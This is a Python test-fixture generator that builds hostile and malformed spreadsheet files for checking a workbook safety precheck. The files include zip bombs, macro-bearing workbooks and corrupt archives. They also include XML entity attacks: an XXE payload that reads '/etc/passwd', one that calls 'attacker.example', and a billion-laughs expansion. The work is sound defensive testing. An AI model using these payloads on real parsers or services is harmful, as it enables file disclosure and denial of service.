"""Generator of a corpus of hostile or unusable "returned workbook" files for exercising xlperf.safety.precheck.

``build_corpus(out_dir)`` writes one file per case and returns the cases with the code/status that
``precheck`` must report (``None`` for the clean control file).  Every zip is written by a tiny raw
writer so flags, CRCs and pre-compressed payloads can be forged; nothing large is ever held in memory
(the 300 MiB zip bomb is ~300 KB on disk and built in well under a second).
"""

from __future__ import annotations

import codecs
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from xlperf.safety import Limits

_MiB = 2**20


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    expected_code: str | None
    expected_status: str | None
    limits: Limits | None = None  # precheck must be called with these limits (None: defaults)


# name -> (expected code, expected status).  Single source of truth for build_corpus and the tests.
EXPECTED: dict[str, tuple[str | None, str | None]] = {
    "clean": (None, None),
    "clean_with_svg_image": (None, None),
    "excel_lock": ("F001", "skipped"),
    "libreoffice_lock": ("F001", "skipped"),
    "appledouble": ("F001", "skipped"),
    "broken_symlink": ("F002", "rejected"),
    "directory": ("F002", "rejected"),
    "empty": ("F003", "rejected"),
    "oversize": ("F004", "rejected"),
    "legacy_xls": ("F005", "rejected"),
    "legacy_xls_renamed_xlsx": ("F005", "rejected"),
    "encrypted_ooxml": ("F006", "rejected"),
    "text_renamed": ("F007", "rejected"),
    "csv_gbk_renamed": ("F007", "rejected"),
    "html_renamed": ("F007", "rejected"),
    "pdf_renamed": ("F007", "rejected"),
    "spreadsheetml2003_renamed": ("F007", "rejected"),
    "csv_starting_with_pk": ("F007", "rejected"),
    "truncated_zip": ("F008", "rejected"),
    "bad_crc": ("F008", "rejected"),
    "duplicate_entry": ("F008", "rejected"),
    "unsupported_compression": ("F008", "rejected"),
    "overlapping_entries": ("F008", "rejected"),
    "many_entries": ("F009", "rejected"),
    "zip_bomb": ("F010", "rejected"),
    "ratio_bomb": ("F010", "rejected"),
    "docx_like": ("F011", "rejected"),
    "plain_zip": ("F011", "rejected"),
    "empty_zip": ("F011", "rejected"),
    "xlsb_like": ("F005", "rejected"),
    "xlsm_vba": ("F012", "rejected"),
    "macro_content_type": ("F012", "rejected"),
    "xlm_macrosheet": ("F012", "rejected"),
    "xxe_shared_strings": ("F013", "rejected"),
    "billion_laughs_workbook": ("F013", "rejected"),
    "xxe_utf16": ("F013", "rejected"),
    "doctype_after_long_comment": ("F013", "rejected"),
    "xxe_in_rels": ("F013", "rejected"),
    "xxe_odd_extension": ("F013", "rejected"),
    "encrypted_entry_flag": ("F014", "rejected"),
}

# expected F005/F006/F007 sub-kinds, checked by the tests
EXPECTED_KIND: dict[str, str] = {
    "legacy_xls": "xls",
    "legacy_xls_renamed_xlsx": "xls",
    "text_renamed": "text",
    "csv_gbk_renamed": "text",
    "html_renamed": "html",
    "pdf_renamed": "pdf",
    "spreadsheetml2003_renamed": "xml",
    "csv_starting_with_pk": "text",
    "docx_like": "docx",
    "xlsb_like": "xlsb",
}


# --------------------------------------------------------------------------- raw zip writer


@dataclass
class _Member:
    name: str
    data: bytes = b""
    method: int = 8  # 0 stored, 8 deflated, anything else is written as-is (data stored)
    flags: int = 0
    raw: bytes | None = None  # pre-compressed payload (then crc/size are required)
    crc: int | None = None
    size: int | None = None


def _deflate(data: bytes, level: int = 6) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _write_zip(path: Path, members: list[_Member], aliases: dict[str, str] | None = None) -> Path:
    """Write *members*; each ``aliases`` item adds a central-directory entry named by the key that
    points at the local header of the member named by the value (overlapping entries)."""
    dos_time, dos_date = 0, ((2024 - 1980) << 9) | (1 << 5) | 1
    central = []
    with open(path, "wb") as f:
        for m in members:
            name = m.name.encode("utf-8")
            flags = m.flags | (0x800 if not m.name.isascii() else 0)
            if m.raw is not None:
                payload, crc, usize = m.raw, m.crc or 0, m.size or 0
            else:
                payload = _deflate(m.data) if m.method == 8 else m.data
                crc, usize = (m.crc if m.crc is not None else zlib.crc32(m.data)), len(m.data)
            offset = f.tell()
            f.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, m.method, dos_time, dos_date,
                                crc, len(payload), usize, len(name), 0))
            f.write(name)
            f.write(payload)
            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, m.method, dos_time,
                                       dos_date, crc, len(payload), usize, len(name), 0, 0, 0, 0, 0, offset)
                           + name)
        for alias, target in (aliases or {}).items():
            i = next(i for i, m in enumerate(members) if m.name == target)
            new = alias.encode("utf-8")  # fixed part of a central record is 46 bytes, name length at 28
            central.append(central[i][:28] + struct.pack("<H", len(new)) + central[i][30:46] + new)
        cd = b"".join(central)
        cd_offset = f.tell()
        f.write(cd)
        n = len(central)
        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n, n, len(cd), cd_offset, 0))
    return path


def zeros_deflate(total: int, chunk: int = _MiB) -> tuple[bytes, int]:
    """Raw-deflate payload and CRC-32 of *total* zero bytes, without compressing *total* bytes.

    One chunk is compressed by a fresh compressor and ended with a full flush (byte aligned, no
    back-references outside itself), so it can be repeated; a final empty block closes the stream.
    """
    if total % chunk:
        raise ValueError("total must be a multiple of chunk")
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    zero, crc = bytes(chunk), 0
    for _ in range(total // chunk):
        crc = zlib.crc32(zero, crc)
    return block * (total // chunk) + final, crc


# --------------------------------------------------------------------------- OLE2 writer


def _ole2(streams: dict[str, bytes]) -> bytes:
    """A minimal but well-formed OLE2 compound file (v3, 512-byte sectors) holding *streams* at root level.

    Streams are padded to the 4096-byte mini-stream cutoff so only the regular FAT is needed.
    """
    free, end, fatsect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [fatsect, end]  # sector 0: FAT, sector 1: directory
    body = b""
    ordered = sorted(streams.items(), key=lambda kv: (len(kv[0]), kv[0].upper()))
    if len(ordered) > 3:
        raise ValueError("at most 3 streams fit in the single directory sector")
    dir_entries = []
    for name, data in ordered:
        data = data.ljust(4096, b"\0")
        nsec = -(-len(data) // 512)
        start = len(fat)
        fat += [start + i + 1 for i in range(nsec - 1)] + [end]
        body += data.ljust(nsec * 512, b"\0")
        dir_entries.append((name, 2, start, len(data)))
    if len(fat) > 128:
        raise ValueError("streams too large for a single FAT sector")

    def entry(name: str, typ: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return struct.pack("<64sHBB3L16sL2QLQ", raw, len(raw), typ, 1, nostream, right, child,
                           b"\0" * 16, 0, 0, 0, start, size)

    directory = entry("Root Entry", 5, nostream, 1 if dir_entries else nostream, end, 0)
    for i, (name, typ, start, size) in enumerate(dir_entries, start=1):
        right = i + 1 if i < len(dir_entries) else nostream
        directory += entry(name, typ, right, nostream, start, size)
    directory = directory.ljust(512, b"\0")
    # unused directory slots must be typed "empty" with NOSTREAM links; zero type is empty already
    header = struct.pack("<8s16s5H6s9L", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16, 0x3E, 3, 0xFFFE,
                         9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109L", 0, *([free] * 108))
    fat_sector = struct.pack("<128L", *(fat + [free] * (128 - len(fat))))
    return header + fat_sector + directory + body


_BIFF8_BOF = struct.pack("<HHHHHHLL", 0x0809, 16, 0x0600, 0x0005, 0x2775, 0x07CD, 0, 0x0206)
_BIFF_EOF = struct.pack("<HH", 0x000A, 0)


def _xls_bytes() -> bytes:
    return _ole2({"Workbook": _BIFF8_BOF + _BIFF_EOF})


def _encrypted_ooxml_bytes() -> bytes:
    info = (struct.pack("<HHL", 4, 4, 0x40) +
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
            b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
            b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
            b"</encryption>")
    package = struct.pack("<Q", 8192) + os.urandom(4088)
    return _ole2({"EncryptionInfo": info, "EncryptedPackage": package})


# --------------------------------------------------------------------------- template handling


def _make_template(path: Path) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("项目绩效目标表")
    ws.write_row(0, 0, ["项目名称", "一级指标", "二级指标", "指标值"])
    ws.write_row(1, 0, ["示例项目", "产出指标", "数量指标", 100])
    ws.write_comment("A1", "填报说明")
    wb.close()
    return path


def _read_members(template: Path) -> list[_Member]:
    with zipfile.ZipFile(template) as zf:
        return [_Member(zi.filename, zf.read(zi)) for zi in zf.infolist() if not zi.is_dir()]


def _replace(members: list[_Member], name: str, data: bytes) -> list[_Member]:
    out = [_Member(m.name, data) if m.name == name else _Member(m.name, m.data) for m in members]
    if not any(m.name == name for m in members):
        out.append(_Member(name, data))
    return out


def _with_doctype(xml: bytes, root: bytes, doctype: bytes, ref: bytes) -> bytes:
    """Insert *doctype* before the root element and *ref* right after its start tag."""
    start = xml.find(b"<" + root)
    if start < 0:
        return b'<?xml version="1.0"?>\n' + doctype + b"<" + root + b">" + ref + b"</" + root + b">"
    end = xml.find(b">", start)
    if xml[end - 1:end] == b"/":  # self-closing root
        return xml[:start] + doctype + xml[start:end - 1] + b">" + ref + b"</" + root + b">" + xml[end + 1:]
    return xml[:start] + doctype + xml[start:end + 1] + ref + xml[end + 1:]


_SST_XXE = (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            b"<si><t>&xxe;</t></si></sst>")

_LOL = (b"<!DOCTYPE workbook [\n<!ENTITY lol \"lol\">\n"
        + b"".join(b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                   for i in range(1, 10))
        + b"]>\n")


# --------------------------------------------------------------------------- corpus


def build_corpus(out_dir: Path, template: Path | None = None) -> list[Case]:
    """Write every hostile case into *out_dir* and return them with their expected precheck result.

    Zip-level mutations are derived from *template* (a real generated .xlsx) when given, otherwise
    from a small workbook made with xlsxwriter.
    """
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    if template is None:
        template = _make_template(out / "_template.xlsx")
    template = Path(template)
    tbytes = template.read_bytes()
    members = _read_members(template)
    names = {m.name for m in members}
    sst_name = "xl/sharedStrings.xml"
    wb_name = "xl/workbook.xml"
    ct_name = "[Content_Types].xml"
    if wb_name not in names or ct_name not in names:
        raise ValueError(f"{template} is not an xlsx (needs {ct_name} and {wb_name})")

    paths: dict[str, Path] = {}
    limits: dict[str, Limits] = {}

    def put(name: str, filename: str, data: bytes) -> None:
        p = out / filename
        p.write_bytes(data)
        paths[name] = p

    def zipcase(name: str, filename: str, ms: list[_Member]) -> None:
        paths[name] = _write_zip(out / filename, ms)

    # clean control and size limit
    put("clean", "clean.xlsx", tbytes)
    put("oversize", "oversize.xlsx", tbytes)
    limits["oversize"] = Limits(max_file_bytes=max(1, len(tbytes) - 1))

    svg = (b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator -->\n'
           b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" ['
           b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns_svg;" width="1" height="1"/>')
    zipcase("clean_with_svg_image", "clean_svg.xlsx", [_Member(m.name, m.data) for m in members]
            + [_Member("xl/media/image9.svg", svg)])

    # F001 lock / metadata files
    put("excel_lock", "~$returns.xlsx", b"\x05" + "张三".encode("utf-16-le").ljust(53, b"\0") + b"\x20" * 111)
    put("libreoffice_lock", ".~lock.returns.xlsx#", b",zhangsan,PC-01,01.03.2024 09:30,file:///home/zs/.config/libreoffice/4;")
    put("appledouble", "._returns.xlsx", b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + b"\0" * 64)

    # F002 / F003
    link = out / "broken_link.xlsx"
    if link.is_symlink() or link.exists():
        link.unlink()
    os.symlink(out / "does_not_exist.xlsx", link)
    paths["broken_symlink"] = link
    d = out / "folder.xlsx"
    d.mkdir(exist_ok=True)
    paths["directory"] = d
    put("empty", "empty.xlsx", b"")

    # F005 / F006 OLE2
    put("legacy_xls", "legacy.xls", _xls_bytes())
    put("legacy_xls_renamed_xlsx", "legacy_renamed.xlsx", _xls_bytes())
    put("encrypted_ooxml", "encrypted.xlsx", _encrypted_ooxml_bytes())

    # F007 not a zip
    put("text_renamed", "text.xlsx", "这不是Excel文件，只是改了扩展名。\nplain text renamed to .xlsx\n".encode("utf-8"))
    put("csv_gbk_renamed", "csv.xlsx", "项目名称,指标值\n示例项目,100\n".encode("gbk"))
    put("html_renamed", "html.xlsx",
        b'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
        b"<body><table><tr><td>1</td></tr></table></body></html>")
    put("pdf_renamed", "pdf.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
    put("spreadsheetml2003_renamed", "xml2003.xlsx",
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"/></Workbook>')

    put("csv_starting_with_pk", "pk.xlsx", "PK值,项目\n1,示例\n".encode("utf-8"))

    # F008 corrupt containers
    put("truncated_zip", "truncated.xlsx", tbytes[: len(tbytes) // 2])
    bad = [_Member(m.name, m.data) for m in members]
    for m in bad:
        if m.name == wb_name:
            m.crc = zlib.crc32(m.data) ^ 0xDEADBEEF
    zipcase("bad_crc", "bad_crc.xlsx", bad)
    zipcase("duplicate_entry", "duplicate.xlsx",
            [_Member(m.name, m.data) for m in members] + [_Member(wb_name, b"<workbook/>")])
    zipcase("unsupported_compression", "deflate64.xlsx",
            [_Member(m.name, m.data, method=9 if m.name == wb_name else 8) for m in members])

    paths["overlapping_entries"] = _write_zip(out / "overlap.xlsx", [_Member(m.name, m.data) for m in members],
                                              aliases={"xl/media/alias.png": wb_name})

    # F009 too many entries (total exactly 5000)
    pad = [_Member(f"xl/media/pad{i:05d}.bin", b"x", method=0) for i in range(5000 - len(members))]
    zipcase("many_entries", "many_entries.xlsx", [_Member(m.name, m.data) for m in members] + pad)

    # F010 bombs: a valid xlsx plus a 300 MiB entry of zeros (~300 KB on disk); and a ratio-only bomb
    raw, crc = zeros_deflate(300 * _MiB)
    zipcase("zip_bomb", "zip_bomb.xlsx", [_Member(m.name, m.data) for m in members]
            + [_Member("xl/media/image1.png", raw=raw, crc=crc, size=300 * _MiB)])
    raw, crc = zeros_deflate(8 * _MiB)
    zipcase("ratio_bomb", "ratio_bomb.xlsx", [_Member(m.name, m.data) for m in members]
            + [_Member("xl/media/image1.png", raw=raw, crc=crc, size=8 * _MiB)])

    # F011 zips that are not spreadsheets
    zipcase("docx_like", "report.xlsx", [
        _Member(ct_name, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns='
                b'"http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName='
                b'"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                b'wordprocessingml.document.main+xml"/></Types>'),
        _Member("_rels/.rels", b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
                b'schemas.openxmlformats.org/package/2006/relationships"/>'),
        _Member("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://'
                b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
    ])
    zipcase("plain_zip", "plain.xlsx", [_Member("returns/项目A.csv", "项目,值\nA,1\n".encode("utf-8")),
                                        _Member("readme.txt", b"zipped returns")])
    put("empty_zip", "empty_zip.xlsx", b"PK\x05\x06" + b"\0" * 18)
    zipcase("xlsb_like", "binary.xlsx", [_Member(m.name, m.data) for m in members if m.name != wb_name]
            + [_Member("xl/workbook.bin", b"\x83\x01\x00")])

    # F012 macros
    zipcase("xlsm_vba", "macro.xlsm", [_Member(m.name, m.data) for m in members]
            + [_Member("xl/vbaProject.bin", _ole2({"dir": b"\x01" * 16}))])
    ct = next(m.data for m in members if m.name == ct_name)
    ct_macro = ct.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    if ct_macro == ct:
        ct_macro = ct.replace(b"</Types>", b'<Override PartName="/xl/workbook.xml" ContentType='
                              b'"application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')
    zipcase("macro_content_type", "macro_ct.xlsx", _replace(members, ct_name, ct_macro))
    zipcase("xlm_macrosheet", "xlm.xlsx", [_Member(m.name, m.data) for m in members]
            + [_Member("xl/macrosheets/sheet1.xml", b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://'
                       b'schemas.microsoft.com/office/excel/2006/main"/>')])

    # F013 DTD / entity attacks
    zipcase("xxe_shared_strings", "xxe.xlsx", _replace(members, sst_name, _SST_XXE))
    wb_xml = next(m.data for m in members if m.name == wb_name)
    zipcase("billion_laughs_workbook", "billion_laughs.xlsx",
            _replace(members, wb_name, _with_doctype(wb_xml, b"workbook", _LOL, b"&lol9;")))
    utf16 = codecs.BOM_UTF16_LE + _SST_XXE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")
    zipcase("xxe_utf16", "xxe_utf16.xlsx", _replace(members, sst_name, utf16))
    long_comment = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!--' + b"padding " * 1024 + b"-->\n"
                    + _SST_XXE.split(b"\n", 1)[1])
    zipcase("doctype_after_long_comment", "xxe_late.xlsx", _replace(members, sst_name, long_comment))
    rels_xxe = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&x;</Relationships>')
    odd_rels = next((m.data for m in members if m.name == "xl/_rels/workbook.xml.rels"), b"")
    odd = _replace(members, "xl/_rels/workbook.xml.rels",
                   odd_rels.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat"))
    odd.append(_Member("xl/worksheets/sheet1.dat", _SST_XXE))
    zipcase("xxe_odd_extension", "xxe_odd.xlsx", odd)
    zipcase("xxe_in_rels", "xxe_rels.xlsx", _replace(members, "xl/_rels/workbook.xml.rels", rels_xxe))

    # F014 encrypted entry flag (traditional PKWARE encryption bit)
    enc = [_Member(m.name, m.data) for m in members]
    for m in enc:
        if m.name.startswith("xl/worksheets/"):
            m.flags |= 1
    zipcase("encrypted_entry_flag", "encrypted_entry.xlsx", enc)

    missing = set(EXPECTED) - set(paths)
    if missing:  # pragma: no cover - guards EXPECTED and the builder drifting apart
        raise AssertionError(f"cases not built: {sorted(missing)}")
    return [Case(name, paths[name], code, status, limits.get(name)) for name, (code, status) in EXPECTED.items()]


if __name__ == "__main__":  # pragma: no cover - manual use: python tests/hostile.py OUT_DIR [TEMPLATE]
    import sys
    import time

    t0 = time.perf_counter()
    cases = build_corpus(Path(sys.argv[1]), Path(sys.argv[2]) if len(sys.argv) > 2 else None)
    for c in cases:
        print(f"{c.expected_code or '-':5} {c.expected_status or '-':9} {c.path}")
    print(f"{len(cases)} cases in {time.perf_counter() - t0:.2f}s")
